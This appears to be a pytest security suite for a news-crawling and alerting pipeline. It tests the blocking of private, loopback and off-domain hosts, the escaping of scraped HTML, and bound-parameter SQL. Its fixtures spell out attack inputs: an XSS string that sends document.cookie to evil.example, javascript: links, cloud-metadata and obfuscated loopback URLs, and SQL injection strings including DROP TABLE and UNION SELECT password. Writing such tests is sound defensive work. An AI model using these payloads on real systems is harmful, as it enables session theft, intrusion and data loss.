"""Security: the hosts spiders may reach, escaped HTML wherever scraped text is shown, SQL only
through bound parameters. (Secrets: test_secrets.py.)"""

from __future__ import annotations

import ast
import urllib.parse
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from lxml import etree
from lxml import html as lxml_html
from scrapy import Request
from sqlalchemy import select

from crawlers.middlewares import OffsiteRequest, PrivateHostRefused, SourceGuardMiddleware
from pipeline.alerts.feeds import write_feeds
from pipeline.alerts.preview import preview
from pipeline.config.settings import PROJECT_ROOT, get_settings, load_settings
from pipeline.store.db import session_scope
from pipeline.store.models import Document, utcnow
from tests.alerts_data import source, story, subscribers
from tests.conftest import FIXTURES
from tests.reliability.helpers import invoke

# ---------------------------------------------------------------- hosts the spiders may reach


def _guard(domains: list[str]) -> SourceGuardMiddleware:
    stats = SimpleNamespace(inc_value=lambda *a, **k: None)
    crawler: Any = SimpleNamespace(spider=SimpleNamespace(allowed_domains=domains), stats=stats)
    return SourceGuardMiddleware(crawler)


def test_production_is_the_default_mode() -> None:
    assert load_settings({}).mode == "production"


PRIVATE = [
    "http://127.0.0.1/",
    "http://127.1/",  # short form of 127.0.0.1
    "http://2130706433/",  # 127.0.0.1 as one decimal number
    "http://10.0.0.5/",
    "http://192.168.1.1/",
    "http://172.16.0.1/",
    "http://169.254.169.254/latest/meta-data/",  # cloud metadata service
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://0.0.0.0/",
    "http://localhost/",
]


@pytest.mark.parametrize("url", PRIVATE)
def test_production_never_requests_private_or_loopback_hosts(
    url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NEWSMON_MODE", "production")
    get_settings.cache_clear()
    host = urllib.parse.urlsplit(url).hostname or ""
    with pytest.raises(PrivateHostRefused):
        _guard([host]).process_request(Request(url))


def test_test_mode_allows_the_replica_explicitly(monkeypatch: pytest.MonkeyPatch) -> None:
    for mode in ("test", "demo"):
        monkeypatch.setenv("NEWSMON_MODE", mode)
        get_settings.cache_clear()
        _guard(["127.0.0.11"]).process_request(Request("http://127.0.0.11:8800/en/rss.php"))


@pytest.mark.parametrize(
    "url",
    [
        "https://mfa.am.evil.example/x",
        "https://evilmfa.am/x",
        "https://evil.example/https://mfa.am/",
        "https://evil.example/?u=mfa.am",
        "https://user@evil.example/mfa.am",
        "https://evil.example:443@mfa.am.evil.example/",
    ],
)
@pytest.mark.parametrize("mode", ["production", "test"])
def test_no_request_outside_the_allowed_domains(
    url: str, mode: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NEWSMON_MODE", mode)
    get_settings.cache_clear()
    guard = _guard(["mfa.am"])
    with pytest.raises(OffsiteRequest):
        guard.process_request(Request(url))
    guard_ok = _guard(["mfa.am"])
    if mode == "test":
        guard_ok.process_request(Request("https://www.mfa.am/en/press-releases/"))


def test_production_crawl_of_loopback_sources_is_refused_before_any_request(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    sources = tmp_path / "sources.yaml"
    sources.write_text(
        "sources:\n  - name: local\n    type: media\n    country: AM\n    languages: [en]\n"
        "    homepage: http://127.0.0.1:9/\n    allowed_domains: [127.0.0.1]\n"
        "    discovery:\n      - {method: feed, url: 'http://127.0.0.1:9/rss'}\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("NEWSMON_SOURCES_FILE", str(sources))
    monkeypatch.setenv("NEWSMON_MODE", "production")
    get_settings.cache_clear()
    code, _out, err = invoke(["crawl", "--source", "local"], capsys)
    assert code == 2 and "loopback/private" in err
    assert not (tmp_path / "var" / "crawl").exists()  # no spider was started


# ---------------------------------------------------------------- scraped text in HTML output

EVIL_TITLE = 'Talks <script>alert("t")</script><img src=x onerror=alert(1)>'
EVIL_TEXT = (
    'The deputy minister said <script>fetch("//evil.example/"+document.cookie)</script> that '
    "the Zangezur corridor <a href=javascript:alert(2)>opens</a> soon. "
    "<iframe src=//evil.example></iframe> Consultations will continue."
)


def _assert_inert(fragment: str, where: str) -> None:
    """No script, no event handler, no javascript: link, no frame in an HTML document."""
    tree = lxml_html.fromstring(fragment)
    assert not tree.xpath("//script | //iframe | //object | //embed"), where
    for el in tree.iter():
        if not isinstance(el.tag, str):
            continue
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (where, el.tag, name)
            if name.lower() in {"href", "src"}:
                assert not value.strip().lower().startswith("javascript:"), (where, value)


def test_alert_html_and_atom_feed_escape_scraped_text(db_url: str, tmp_path: Path) -> None:
    with session_scope() as session:
        evil_source = source(session, "evil-wire", type_="wire", label='<b onmouseover="x()">W</b>')
        _cluster, doc = story(
            session,
            n=1,
            title=EVIL_TITLE,
            text=EVIL_TEXT,
            source_name="evil-wire",
            published=utcnow() - timedelta(hours=1),
        )
        doc.url = "javascript:alert(3)//"
        assert evil_source.id == doc.source_id
    subs = subscribers(
        {"id": "desk", "email": "desk@example.org", "mode": "instant"},
        {"id": "daily", "email": "daily@example.org", "mode": "digest"},
    )
    items = preview(subs, out_dir=tmp_path / "preview")
    pages = [f for item in items for f in item.files if f.suffix == ".html"]
    assert len(pages) == 2  # the instant alert and the digest
    for page in pages:
        content = page.read_text(encoding="utf-8")
        _assert_inert(content, page.name)
        assert "&lt;script&gt;" in content  # shown as text, not run
    with session_scope() as session:
        feeds = write_feeds(session, out_dir=tmp_path / "feeds")
    (feed,) = [f for f in feeds if f.name == "zangezur-corridor.xml"]
    root = etree.fromstring(feed.read_bytes())
    ns = {"a": "http://www.w3.org/2005/Atom"}
    (entry,) = root.findall("a:entry", ns)
    assert entry.findtext("a:title", namespaces=ns) is not None
    assert "<script>" in entry.findtext("a:title", namespaces=ns)  # text, XML-escaped
    assert not root.xpath("//a:script | //*[local-name()='script']", namespaces=ns)
    for el in entry.iter():
        if el.get("type") == "html":
            _assert_inert(f"<div>{el.text or ''}</div>", f"feed {etree.QName(el).localname}")
        href = el.get("href")
        if href is not None:
            assert not href.lower().startswith("javascript:")


# ---------------------------------------------------------------- SQL through bound parameters

SQL_CALLS = {"text", "exec_driver_sql", "execute", "executemany", "executescript"}
# Dynamic SQL that has been reviewed: (file, interpolated expression) -> why it is safe.
REVIEWED = {
    ("pipeline/store/db.py", "SQLITE_BUSY_TIMEOUT_MS"): "a module constant (an int)",
    ("pipeline/dedup/lookup.py", "terms"): "OR terms built from range(BANDS); values bound",
    ("pipeline/dedup/versions.py", "terms"): "OR terms built from range(XL_BANDS); values bound",
    ("pipeline/store/migrations/versions/0001_initial.py", "trig"): "a literal tuple of names",
    ("scripts/bench_scale.py", "dbname"): "a name the benchmark generates from a uuid",
    ("scripts/bench_dedup.py", "table"): "a literal tuple of table names (sequence reset)",
    ("scripts/bench_web.py", "table"): "a literal tuple of table names; values bound",
}


def _dynamic_parts(node: ast.expr) -> list[str] | None:
    """The interpolated expressions of an f-string / % / + / .format() SQL argument."""
    if isinstance(node, ast.JoinedStr):
        return [ast.unparse(v.value) for v in node.values if isinstance(v, ast.FormattedValue)]
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod | ast.Add):
        return [ast.unparse(node)]
    if isinstance(node, ast.Call) and getattr(node.func, "attr", None) == "format":
        return [ast.unparse(node)]
    return None


def dynamic_sql(root: Path) -> list[tuple[str, int, str]]:
    """(file, line, expression) of every SQL call built from interpolated strings."""
    found = []
    for folder in ("pipeline", "crawlers", "dags", "scripts"):
        for path in sorted((root / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if not (isinstance(node, ast.Call) and node.args):
                    continue
                func = node.func
                name = func.id if isinstance(func, ast.Name) else getattr(func, "attr", None)
                if name not in SQL_CALLS:
                    continue
                for part in _dynamic_parts(node.args[0]) or []:
                    found.append((str(path.relative_to(root)), node.lineno, part))
    return found


def test_sql_is_built_only_from_constants_and_bound_parameters() -> None:
    unreviewed = [f for f in dynamic_sql(PROJECT_ROOT) if (f[0], f[2]) not in REVIEWED]
    assert unreviewed == [], "interpolated SQL: bind the values as parameters"


def test_the_sql_scan_finds_interpolation(tmp_path: Path) -> None:
    """The control: an f-string with user input in text() is reported."""
    (tmp_path / "pipeline").mkdir()
    (tmp_path / "pipeline" / "bad.py").write_text(
        "from sqlalchemy import text\n"
        "def find(session, q):\n"
        "    return session.execute(text(f\"SELECT * FROM documents WHERE title = '{q}'\"))\n",
        encoding="utf-8",
    )
    for folder in ("crawlers", "dags", "scripts"):
        (tmp_path / folder).mkdir()
    assert dynamic_sql(tmp_path) == [("pipeline/bad.py", 3, "q")]


QUERIES = [
    "Zangezur' OR '1'='1",
    '"; DROP TABLE documents; --',
    "corridor) UNION SELECT password FROM users --",
    "NEAR(corridor statement) AND NOT -foo* ^bar",
    "corridor:* & !statement | (x",
    "%_\\ corridor",
]


@pytest.mark.parametrize("query", QUERIES)
def test_search_with_sql_and_fts_metacharacters(
    any_db_url: str, query: str, capsys: pytest.CaptureFixture[str]
) -> None:
    from pipeline.stages.ingest import ingest_paths

    ingest_paths([FIXTURES / "demo"])
    with session_scope() as session:
        before = len(list(session.scalars(select(Document.id))))
    code, out, err = invoke(["search", query, "--json"], capsys)
    assert code in (0, 2), err  # results, or "no searchable words": never a crash
    assert "Traceback" not in err and "syntax error" not in (out + err).lower()
    if code == 2:
        assert err.strip().startswith("error: ")
    with session_scope() as session:
        assert len(list(session.scalars(select(Document.id)))) == before
    if "corridor" in query.lower() and "union" not in query.lower():
        code, out, _ = invoke(["search", "corridor", "--json"], capsys)
        assert code == 0 and out.strip()
